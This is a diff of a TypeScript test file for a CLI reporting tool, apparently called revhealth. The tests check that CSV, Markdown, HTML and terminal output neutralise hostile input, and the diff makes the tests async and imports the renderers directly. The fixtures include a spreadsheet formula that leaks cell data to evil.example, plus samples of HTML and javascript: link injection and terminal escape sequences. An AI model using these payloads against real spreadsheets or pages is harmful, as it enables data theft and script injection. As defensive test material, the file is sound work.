@@ -16,7 +16,9 @@ import { readTable } from '../../src/ingest/read-table.js';
 import type { FileReport } from '../../src/model.js';
 import { csvCell, neutralizeCell, renderRejectsCsv } from '../../src/report/rejects-csv.js';
 import { safeText } from '../../src/report/text.js';
-import { hasStackTrace, runCli, tempDir } from '../helpers/cli.js';
+import { renderHtml } from '../../src/report/html.js';
+import { renderMarkdown } from '../../src/report/markdown.js';
+import { hasStackTrace, runCliAsync, tempDir } from '../helpers/cli.js';
 
 const HOSTILE = {
   formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -70,7 +72,7 @@ describe('--rejects CSV: formula injection', () => {
   });
 
   it('leaves other cells as they are (HTML and Markdown are not formulas)', () => {
-    for (const v of [HOSTILE.img, HOSTILE.mdLink, 'Acme', '12,500.00', ' =1']) expect(neutralizeCell(v)).toBe(v);
+    for (const v of [HOSTILE.img, HOSTILE.mdLink, 'Acme', '12,500.00', 'a=1', ';x']) expect(neutralizeCell(v)).toBe(v);
   });
 
   it('property: no parsed cell of the rejects CSV starts a formula, and the apostrophe is the only change', () => {
@@ -95,13 +97,13 @@ describe('--rejects CSV: formula injection', () => {
     );
   });
 
-  it('end to end: validate --rejects writes the hostile row neutralised', () => {
+  it('end to end: validate --rejects writes the hostile row neutralised', async () => {
     const dir = tempDir({
       'deals.csv': `id,amount,stage,created,closed,name\nD1,100,Won,2025-01-01,2025-01-05,ok\nD2,"${HOSTILE.formula.replace(/"/g, '""')}",Won,2025-01-01,2025-01-05,"${HOSTILE.img}"\nD3,@SUM(A1),Won,2025-01-01,2025-01-05,"${HOSTILE.mdLink}"\n`,
     });
     try {
       const out = join(dir, 'rejects.csv');
-      const r = runCli(['validate', dir, '--rejects', out]);
+      const r = await runCliAsync(['validate', dir, '--rejects', out]);
       expect(r.code).toBe(0);
       const rows = parse(readFileSync(out, 'utf8')) as string[][];
       const cells = rows.flat();
@@ -168,8 +170,8 @@ describe('terminal output: escape sequences and control characters', () => {
       ['validate', [], 'PWNED'],
       ['audit', ['--by', 'owner', '--as-of', '2025-06-30'], 'PWNED'],
       ['metrics', ['--by', 'source', '--as-of', '2025-06-30'], 'click'],
-    ])('%s prints no escape sequence or control character from the data', (command, extra, visible) => {
-      const r = runCli([command, dir, ...(extra as string[])]);
+    ])('%s prints no escape sequence or control character from the data', async (command, extra, visible) => {
+      const r = await runCliAsync([command, dir, ...(extra as string[])]);
       expect(r.code).toBe(0);
       expect(r.stdout.length).toBeGreaterThan(100);
       for (const text of [r.stdout, r.stderr]) {
@@ -179,14 +181,14 @@ describe('terminal output: escape sequences and control characters', () => {
       expect(r.stdout).toContain(visible);
     });
 
-    it('an error message quoting a hostile header or config key prints no escape sequence', () => {
+    it('an error message quoting a hostile header or config key prints no escape sequence', async () => {
       const bad = tempDir({
         'deals.csv': `id,${HOSTILE.clear},stage\nD1,1,Won\n`,
         'revhealth.config.json': JSON.stringify({ targets: { quotas: { [HOSTILE.clear]: -5 } } }),
       });
       try {
         for (const args of [['validate', bad, '--config', join(dir, 'revhealth.config.json')], ['validate', bad]]) {
-          const r = runCli(args);
+          const r = await runCliAsync(args);
           expect(r.code).toBe(2);
           expect(hasStackTrace(r.stderr)).toBe(false);
           expect(r.stderr).not.toMatch(TERMINAL_CONTROL);
@@ -199,9 +201,8 @@ describe('terminal output: escape sequences and control characters', () => {
   });
 });
 
-describe('Markdown and HTML reports with hostile data', async () => {
-  const markdown = (await import('../../src/report/markdown.js').catch(() => null)) as { renderMarkdown?: (r: AuditReport) => string } | null;
-  const html = (await import('../../src/report/html.js').catch(() => null)) as { renderHtml?: (r: AuditReport) => string; CSP?: string } | null;
+// imported, not probed: a renamed renderer fails these tests instead of skipping them
+describe('Markdown and HTML reports with hostile data', () => {
 
   async function hostileReport(): Promise<AuditReport> {
     const q = (s: string): string => `"${s.replace(/"/g, '""')}"`;
@@ -216,8 +217,8 @@ describe('Markdown and HTML reports with hostile data', async () => {
     return result.report;
   }
 
-  it.runIf(typeof markdown?.renderMarkdown === 'function')('Markdown: no raw HTML, no live link, no table break, no escape sequence', async () => {
-    const md = (markdown?.renderMarkdown as (r: AuditReport) => string)(await hostileReport());
+  it('Markdown: no raw HTML, no live link, no table break, no escape sequence', async () => {
+    const md = renderMarkdown(await hostileReport());
     expect(md).not.toContain('<img');
     expect(md).toContain('&lt;img');
     expect(md).not.toMatch(/(^|[^\\])\[x\]\(javascript:/m);
@@ -228,8 +229,8 @@ describe('Markdown and HTML reports with hostile data', async () => {
     expect(md).not.toMatch(/[^\\]\| \\\[x\\\]/);
   });
 
-  it.runIf(typeof html?.renderHtml === 'function')('HTML: CSP, no script, no live markup or javascript: URL from the data', async () => {
-    const page = (html?.renderHtml as (r: AuditReport) => string)(await hostileReport());
+  it('HTML: CSP, no script, no live markup or javascript: URL from the data', async () => {
+    const page = renderHtml(await hostileReport());
     expect(page).toMatch(/<meta http-equiv="Content-Security-Policy" content="[^"]*default-src 'none'/);
     expect(page).not.toMatch(/<script/i);
     expect(page).not.toContain('<img src=x');
